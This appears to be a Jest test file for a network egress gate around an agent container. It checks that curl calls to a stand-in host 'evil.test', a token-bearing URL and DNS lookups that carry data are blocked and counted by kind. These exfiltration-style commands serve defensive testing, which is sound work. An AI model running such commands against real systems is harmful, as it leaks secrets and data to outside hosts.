import { readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import Docker from 'dockerode'
import { exfiltrating } from '../support/gate/exfiltrating.ts'
import { openResolver, type Resolver } from '../support/gate/resolver.ts'
import { presentGates } from '../support/gates.ts'
import { agentImage, type Internet, openInternet } from '../support/hosts/internet.ts'
import { startRunner } from '../support/runner/runner.ts'

// What a bottle is refused is counted by its class; and a name that it looks up itself goes nowhere, at once.
jest.setTimeout(90_000)

const gates = await presentGates()
const dataName = exfiltrating.find(one => one.pipelock)?.host('allowed.test') ?? ''
const token = ['gh', 'p_', 'k3Jd9Qx7Rb2Vn5Tz8Lw1Pm4Hs6Gf0YcAeUiO'.split('').reverse().join('')].join('')

let internet: Internet
let resolver: Resolver
beforeAll(async () => {
  internet = await openInternet([{ role: 'listener', names: ['allowed.test', 'evil.test', dataName] }])
  resolver = await openResolver(internet.network, await internet.address('allowed.test'))
})
afterAll(async () => {
  await resolver?.[Symbol.asyncDispose]()
  await internet?.[Symbol.asyncDispose]()
})

const lookUp = (name: string) => `
node -e '
const { lookup, Resolver } = require("dns").promises
const from = Date.now()
const direct = new Resolver({ timeout: 500, tries: 1 })
direct.setServers(["${resolver.address}"])
Promise.allSettled([lookup("${name}")]).then(async ([one]) => {
  console.log("looked up", one.status, "within a second:", Date.now() - from < 1000)
  const two = await Promise.allSettled([direct.resolve4("direct.${name}")])
  console.log("asked directly", two[0].status)
})'`

describe.each(gates)('a bottle behind the gate $name', ({ name, inputs }) => {
  test('counts hosts, secrets and names that carry data apart, and resolves nothing itself', async () => {
    await using runner = await startRunner(resolve(import.meta.dirname, '../..'))
    const run = [
      'curl -sS http://evil.test/a || true',
      'curl -sS https://evil.test/b || true',
      `curl -sS http://allowed.test/?t=${token} || true`,
      `curl -sS http://${dataName}/ || true`,
      lookUp(`lookup-${name}.evil.test`),
      'true',
    ].join('\n')
    const step = runner.step({
      with: { ...inputs, image: agentImage, allow: 'allowed.test\n*.allowed.test', run },
      env: {},
    })
    const main = await step.main()
    await step.post()
    expect(main.outputs).toMatchObject({ enforced: 'true', 'blocked-count': '4', 'dlp-count': '1' })
    const kinds = readFileSync(join(main.outputs['evidence-path'] ?? '', 'blocked.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map(line => JSON.parse(line).kind)
    expect(kinds.sort()).toEqual(['heuristic', 'not-allowed', 'not-allowed', 'secret'])
    expect(main.log.join('\n')).toContain('looked up rejected within a second: true')
    expect(main.log.join('\n')).toContain('asked directly rejected')
    expect((await resolver.names()).filter(one => one.includes(`lookup-${name}`))).toEqual([])
    expect((await internet.hits('allowed.test')).filter(hit => hit.kind === 'request')).toEqual([])
  })
})

test('the control: outside a bottle both look-ups reach the resolver', async () => {
  const container = await new Docker().createContainer({
    Image: agentImage,
    Entrypoint: ['sh', '-c', lookUp('lookup-control.evil.test')],
    HostConfig: { NetworkMode: internet.network, Dns: [resolver.address] },
  })
  await container.start()
  await container.wait()
  const said = (await container.logs({ stdout: true, stderr: true })).toString('utf8')
  await container.remove({ force: true })
  expect(said).toContain('looked up fulfilled')
  expect(said).toContain('asked directly fulfilled')
  const names = await resolver.names()
  for (const name of ['lookup-control.evil.test', 'direct.lookup-control.evil.test']) expect(names).toContain(name)
})
